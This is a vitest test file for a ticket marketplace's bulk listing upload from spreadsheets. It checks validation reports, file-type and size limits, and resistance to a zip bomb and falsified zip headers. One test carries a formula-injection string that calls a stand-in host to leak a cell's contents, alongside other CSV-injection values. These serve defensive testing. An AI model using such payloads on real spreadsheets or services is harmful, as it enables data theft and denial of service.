import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { unpacksWithin } from '../domain/listings/bulk';
import { MAX_BULK_ROWS, MAX_UNPACKED_BYTES } from '../domain/listings/bulk-columns';
import { freshServer } from '../test-support';
import { HEADERS, xlsx } from './bulk-testing';
import { type Answer, call, newKey, type Server, userId } from './trade-testing';

type Report = { row: number; column: string; value: string; message: string }[];
type Rejected = { success: false; message: string; report?: Report; error_count?: number; rows_total?: number };

describe('bulk listing from a spreadsheet (server)', () => {
  let s: Server;
  let seller: string;
  let sellerId: number;
  let match: { id: number; name: string; event_date: string };
  let other: { id: number };

  beforeAll(async () => {
    s = await freshServer();
    seller = await s.loginAs('seller@demo.test');
    sellerId = await userId(s, 'seller@demo.test');
    const today = s.clock.now().toISOString().slice(0, 10);
    [match, other] = (await s.db
      .selectFrom('events')
      .select(['id', 'name', 'event_date'])
      .where('event_date', '>', today)
      .orderBy('id')
      .limit(2)
      .execute()) as [typeof match, typeof other];
  }, 60_000);
  afterAll(async () => {
    await s?.close();
  });

  const good = (over: Partial<Record<(typeof HEADERS)[number], unknown>> = {}) => {
    const row: Record<string, unknown> = {
      Match: `${match.id} | ${match.name} | ${match.event_date}`,
      Category: 'Longside Upper Tier',
      Block: 'Block 40',
      Row: 7,
      Seats: '',
      'Ticket Type': 'E-ticket',
      Quantity: 2,
      Split: 'Pairs',
      Price: 125.5,
      'Face Value': null,
      Currency: 'GBP',
      Restrictions: '',
      Notes: '',
      ...over,
    };
    return HEADERS.map((h) => row[h] ?? null);
  };
  const send = async (bytes: Buffer, name = 'listings.xlsx', type = 'application/octet-stream', dryRun?: boolean) => {
    const boundary = `----sbbulk${Math.random().toString(16).slice(2)}`;
    const parts = [
      ...(dryRun === undefined
        ? []
        : [Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="dry_run"\r\n\r\n${dryRun}\r\n`)]),
      Buffer.from(
        `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\ncontent-type: ${type}\r\n\r\n`,
      ),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ];
    const res = await s.app.request('/api/bulk-listing/upload-excel-tickets', {
      method: 'POST',
      headers: {
        authorization: `Bearer ${seller}`,
        'content-type': `multipart/form-data; boundary=${boundary}`,
        'idempotency-key': newKey(),
      },
      body: Buffer.concat(parts),
    });
    return { status: res.status, body: (await res.json()) as Answer['body'] & Rejected };
  };
  const mine = async () =>
    Number(
      (
        await s.db
          .selectFrom('listings')
          .select((eb) => eb.fn.countAll<number>().as('n'))
          .where('seller_id', '=', sellerId)
          .executeTakeFirstOrThrow()
      ).n,
    );

  it('gives a template with the columns, the matches and drop-down lists; uploaded as it is, nothing is listed', async () => {
    const r = await call(s, 'GET', '/bulk-listing/template', seller);
    expect(r.status).toBe(200);
    const data = r.body.data as unknown as { name: string; columns: string[]; content_base64: string; size: number };
    expect(data.columns).toEqual(HEADERS);
    const bytes = Buffer.from(data.content_base64, 'base64');
    expect(bytes.length).toBe(data.size);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Listings', 'Matches', 'Lists']);
    const sheet = wb.getWorksheet('Listings') as ExcelJS.Worksheet;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(HEADERS);
    const validations = (
      sheet as unknown as { dataValidations: { model: Record<string, { type: string; formulae: string[] }> } }
    ).dataValidations.model;
    const byColumn = (letter: string) =>
      Object.entries(validations).find(([range]) => range.startsWith(`${letter}2`))?.[1];
    expect(byColumn('B')).toMatchObject({ type: 'list', formulae: ['Lists!$A$2:$A$7'] });
    expect(byColumn('F')?.type).toBe('list');
    expect(byColumn('H')?.type).toBe('list');
    expect(byColumn('A')?.formulae[0]).toMatch(/^Matches!\$A\$2:\$A\$\d+$/);
    const matches = wb.getWorksheet('Matches') as ExcelJS.Worksheet;
    expect(String(matches.getRow(2).getCell(1).value)).toMatch(/^\d+ \| .+ \| \d{4}-\d{2}-\d{2}$/);
    const before = await mine();
    const up = await send(bytes);
    expect(up.status, JSON.stringify(up.body).slice(0, 600)).toBe(200);
    // the template's own example rows are skipped, never listed
    expect(up.body.data).toMatchObject({ created: 0, skipped: 2, rows_total: 2, dry_run: false });
    expect(up.body.message).toBe('0 listings created (2 rows skipped).');
    expect(await mine()).toBe(before);
  });

  it('reads a workbook whose xl/workbook.xml comes after its sheets (any writer may order a zip so)', async () => {
    const r = await call(s, 'GET', '/bulk-listing/template', seller);
    const template = (r.body.data as unknown as { content_base64: string }).content_base64;
    const zip = await JSZip.loadAsync(Buffer.from(template, 'base64'));
    // the order that made ExcelJS's stream reader throw: relations, shared strings and sheets, then the workbook
    const names = Object.keys(zip.files).filter((n) => !zip.files[n]?.dir);
    const last = (n: string) => (n === 'xl/workbook.xml' ? 2 : n.startsWith('xl/worksheets/') ? 1 : 0);
    const reordered = new JSZip();
    for (const name of [...names].sort((a, b) => last(a) - last(b))) {
      const entry = zip.file(name);
      if (entry) reordered.file(name, await entry.async('nodebuffer'));
    }
    const bytes = await reordered.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    const order = Object.keys((await JSZip.loadAsync(bytes)).files);
    expect(order.indexOf('xl/workbook.xml')).toBeGreaterThan(order.indexOf('xl/worksheets/sheet1.xml'));
    expect(order).toContain('xl/sharedStrings.xml');
    expect(order.indexOf('xl/sharedStrings.xml')).toBeLessThan(order.indexOf('xl/worksheets/sheet1.xml'));
    const before = await mine();
    const up = await send(bytes, 'listings.xlsx', 'application/octet-stream', true);
    expect(up.status, JSON.stringify(up.body).slice(0, 600)).toBe(200);
    expect(up.body.data).toMatchObject({ rows_total: 2, dry_run: true });
    expect(await mine()).toBe(before);
  });

  it('reports every wrong row (row, column, value, message), creates nothing, then creates all once fixed', async () => {
    const rows = [
      good(),
      good({ Price: 0 }),
      good({ Quantity: 3 }),
      good({ Category: 'Roof', Block: 'x'.repeat(51) }),
      good({ Match: 'Arsenal somewhere', 'Ticket Type': 'Carrier pigeon', Currency: 'JPY' }),
      good({ Price: '12.345', Restrictions: 'restricted_view,nope' }),
      good({ Match: 2147483647 }),
    ];
    const before = await mine();
    const bad = await send(await xlsx(rows));
    expect(bad.status).toBe(422);
    expect(bad.body.rows_total).toBe(7);
    const report = bad.body.report as Report;
    const at = (row: number) => report.filter((e) => e.row === row).map((e) => [e.column, e.value]);
    expect(at(2)).toEqual([]);
    expect(at(3)).toEqual([['Price', '0']]);
    expect(at(4)).toEqual([['Split', 'pairs']]);
    expect(at(5)).toEqual(
      expect.arrayContaining([
        ['Block', 'x'.repeat(51)],
        ['Category', 'Roof'],
      ]),
    );
    expect(
      at(6)
        .map(([c]) => c)
        .sort(),
    ).toEqual(['Currency', 'Match', 'Ticket Type']);
    expect(
      at(7)
        .map(([c]) => c)
        .sort(),
    ).toEqual(['Price', 'Restrictions']);
    expect(report.find((e) => e.row === 8)).toMatchObject({ column: 'Match', message: 'No match has this id.' });
    expect(bad.body.error_count).toBe(report.length);
    expect(await mine()).toBe(before);

    const fixed = rows.map((_, i) => good({ Row: i + 1, Quantity: 2 * (i + 1) }));
    const dry = await send(await xlsx(fixed), 'listings.xlsx', undefined, true);
    expect(dry.body.data).toMatchObject({ dry_run: true, created: 0, rows_total: 7 });
    expect(await mine()).toBe(before);
    const ok = await send(await xlsx(fixed));
    expect(ok.status).toBe(200);
    const ids = (ok.body.data as unknown as { ticket_ids: number[] }).ticket_ids;
    expect(ids).toHaveLength(7);
    expect(await mine()).toBe(before + 7);
    const listed = await call(s, 'GET', `/my-listings?match_id=${match.id}&per_page=200`, seller);
    const got = (listed.body.data as unknown as { tickets: { id: number; price: number }[] }).tickets;
    for (const id of ids) expect(got.find((t) => t.id === id)?.price).toBe(12550);
  });

  it('refuses a price per ticket below the least price (5.00), in the sheet and in its template', async () => {
    const bad = await send(await xlsx([good({ Price: 4.99, 'Face Value': 0.5 }), good({ Row: 2, Price: 5 })]));
    expect(bad.status).toBe(422);
    expect((bad.body.report as Report).map((e) => [e.row, e.column, e.message])).toEqual([
      [2, 'Price', 'must be from 5.00 to 100,000.00'],
    ]);
    const r = await call(s, 'GET', '/bulk-listing/template', seller);
    const wb = new ExcelJS.Workbook();
    const template = Buffer.from((r.body.data as unknown as { content_base64: string }).content_base64, 'base64');
    await wb.xlsx.load(template as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Listings') as unknown as {
      dataValidations: { model: Record<string, { formulae: unknown[] }> };
    };
    const price = Object.entries(sheet.dataValidations.model).find(([range]) => range.startsWith('I2'))?.[1];
    expect(price?.formulae.map(Number)).toEqual([5, 100_000]);
  });

  it('refuses formulas (never evaluated), keeps hostile text verbatim, and refuses duplicate rows', async () => {
    const formula = await xlsx([good({ Price: { formula: '100+25.5', result: 125.5 } })]);
    const f = await send(formula);
    expect(f.status).toBe(422);
    expect(f.body.report).toEqual([
      { row: 2, column: 'Price', value: '', message: 'Formulas are not accepted: type the value itself.' },
    ]);
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const dupes = await send(await xlsx([good({ Notes: hostile }), good({ Notes: hostile })]));
    expect(dupes.body.report).toEqual([{ row: 3, column: '', value: '', message: 'This row repeats row 2.' }]);
    const one = await send(await xlsx([good({ Notes: hostile, Row: '@SUM(1+1)', Seats: '+1-2' })]));
    expect(one.status).toBe(200);
    const id = (one.body.data as unknown as { ticket_ids: number[] }).ticket_ids[0] as number;
    const row = await s.db.selectFrom('listings').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect([row.notes, row.row, row.seats]).toEqual([hostile, '@SUM(1+1)', '+1-2']);
  });

  it('refuses missing and unknown columns, an empty sheet, and more rows than allowed', async () => {
    const missing = await send(await xlsx([good().slice(0, 12)], HEADERS.slice(0, 12)));
    expect(missing.body.report).toEqual([
      { row: 1, column: 'Notes', value: '', message: "The column 'Notes' is missing." },
    ]);
    const unknown = await send(await xlsx([[...good(), 'x']], [...HEADERS, 'Comments']));
    expect(unknown.body.report?.[0]).toMatchObject({ row: 1, value: 'Comments' });
    const empty = await send(await xlsx([]));
    expect(empty.body.report).toEqual([{ row: 2, column: '', value: '', message: 'The file has no listings.' }]);
    const many = Array.from({ length: MAX_BULK_ROWS + 1 }, (_, i) => good({ Row: i }));
    const tooMany = await send(await xlsx(many));
    expect(tooMany.status).toBe(422);
    expect(tooMany.body.report?.[0]?.message).toBe('The file has more than 5,000 rows of listings.');
  }, 60_000);

  it('reads csv, refuses other kinds by their bytes whatever the name, and files over 5 MB', async () => {
    const csv = Buffer.from(
      `${HEADERS.join(',')}\n${other.id},Away Section,Block 112,3,,Mobile ticket,1,Any,40.00,,EUR,,"=1+2, verbatim"\n`,
    );
    const c = await send(csv, 'listings.csv', 'text/csv');
    expect(c.status).toBe(200);
    const id = (c.body.data as unknown as { ticket_ids: number[] }).ticket_ids[0] as number;
    expect(
      await s.db
        .selectFrom('listings')
        .select(['notes', 'price', 'currency'])
        .where('id', '=', id)
        .executeTakeFirstOrThrow(),
    ).toEqual({
      notes: '=1+2, verbatim',
      price: 4000,
      currency: 'EUR',
    });
    const png = Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
      'base64',
    );
    const renamed = await send(
      png,
      'listings.xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(renamed.status).toBe(415);
    expect(renamed.body.message).toBe('Invalid file type. Allowed types: xlsx, csv');
    const big = Buffer.concat([csv, Buffer.alloc(5 * 1024 * 1024 - csv.length + 1, 0x20)]);
    const tooBig = await send(big, 'big.csv', 'text/csv');
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.message).toBe('File size exceeds 5MB limit');
  });

  it('refuses a workbook that unpacks past 50 MB (a zip bomb) before reading it', async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('Listings');
    sheet.addRow(HEADERS);
    // 60 MB of the same text compresses to well under 5 MB
    const blob = 'A'.repeat(30_000);
    for (let i = 0; i < 2_100; i++) sheet.addRow([`${i}${blob}`]);
    const bytes = Buffer.from(
      await wb.xlsx.writeBuffer({ zip: { compression: 'DEFLATE', compressionOptions: { level: 9 } } } as never),
    );
    expect(bytes.length).toBeLessThan(5 * 1024 * 1024);
    const r = await send(bytes);
    expect(r.status).toBe(422);
    expect(r.body.report?.[0]?.message).toMatch(/unpacks to more than 50 MB/);
  }, 60_000);

  it('counts the bytes really unpacked, not the sizes a lying zip directory claims, and stops at the limit', async () => {
    const wb = new ExcelJS.Workbook();
    const sheet = wb.addWorksheet('Listings');
    sheet.addRow(HEADERS);
    const blob = 'B'.repeat(30_000);
    for (let i = 0; i < 2_100; i++) sheet.addRow([`${i}${blob}`]);
    const bytes = Buffer.from(
      await wb.xlsx.writeBuffer({ zip: { compression: 'DEFLATE', compressionOptions: { level: 9 } } } as never),
    );
    // every entry claims 100 bytes unpacked, in the central directory and in its local header
    let claimed = 0;
    for (let at = 0; at + 46 <= bytes.length; at++) {
      const sig = bytes.readUInt32LE(at);
      if (sig === 0x02014b50) {
        bytes.writeUInt32LE(100, at + 24);
        claimed += 100;
      } else if (sig === 0x04034b50 && bytes.readUInt32LE(at + 22) !== 0) bytes.writeUInt32LE(100, at + 22);
    }
    expect(claimed).toBeGreaterThan(0);
    expect(claimed).toBeLessThan(MAX_UNPACKED_BYTES);
    const path = join(s.dataDir, 'lying.xlsx');
    writeFileSync(path, bytes);
    expect(await unpacksWithin(path, MAX_UNPACKED_BYTES)).toBe(false);
    expect(await unpacksWithin(path, 200 * 1024 * 1024)).toBe(true);
    const before = await mine();
    const r = await send(bytes);
    expect(r.status).toBe(422);
    expect(r.body.report?.[0]?.message).toMatch(/unpacks to more than 50 MB/);
    expect(await mine()).toBe(before);
  }, 120_000);

  it('keeps no file of a dry run (neither on disk nor in files); an import keeps its file', async () => {
    const stored = async () =>
      (
        await s.db
          .selectFrom('files')
          .select('id')
          .where('operation_id', '=', 'uploadBulkListingExcel')
          .where('owner_id', '=', sellerId)
          .execute()
      ).map((f) => f.id);
    const onDisk = (id: string) => existsSync(join(s.dataDir, 'uploads', id));
    const before = await stored();
    const dry = await send(await xlsx([good({ Row: 91 })]), 'listings.xlsx', undefined, true);
    expect(dry.status).toBe(200);
    expect(dry.body.data).toMatchObject({ dry_run: true, created: 0 });
    expect(await stored()).toEqual(before);
    expect(readdirSync(join(s.dataDir, 'uploads')).filter((f) => !before.includes(f))).toEqual([]);
    const real = await send(await xlsx([good({ Row: 92 })]));
    expect(real.status).toBe(200);
    const kept = (await stored()).filter((id) => !before.includes(id));
    expect(kept).toHaveLength(1);
    expect(onDisk(kept[0] as string)).toBe(true);
  });
});
